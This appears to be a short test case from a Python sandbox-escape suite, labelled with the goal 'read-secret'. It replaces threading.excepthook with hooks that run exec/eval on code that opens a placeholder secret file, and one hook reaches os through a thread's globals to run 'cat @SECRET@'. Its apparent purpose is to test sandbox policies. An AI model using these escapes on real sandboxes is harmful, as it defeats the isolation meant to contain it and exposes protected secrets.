# technique: threading.excepthook replaced by C callables, which threading calls for a thread that died
# goal: read-secret
# policy: imports threading = *
# policy: process threads = yes
# source: own analysis: a name that programs may replace
import functools
import threading

code = 'print(open("@SECRET@").read(), flush=True)'
for hook in (functools.partial(dict.fromkeys, map(exec, [code])),
             functools.partial(dict.fromkeys, map(exec, [code], [{}])),
             functools.partial(dict.fromkeys, map(eval, [code])),
             lambda error: print(error.thread.__init__.__globals__['_os']
                                 .popen('cat @SECRET@').read(), flush=True)):
    threading.excepthook = hook
    thread = threading.Thread(target=lambda: [][0])
    thread.start()
    thread.join()
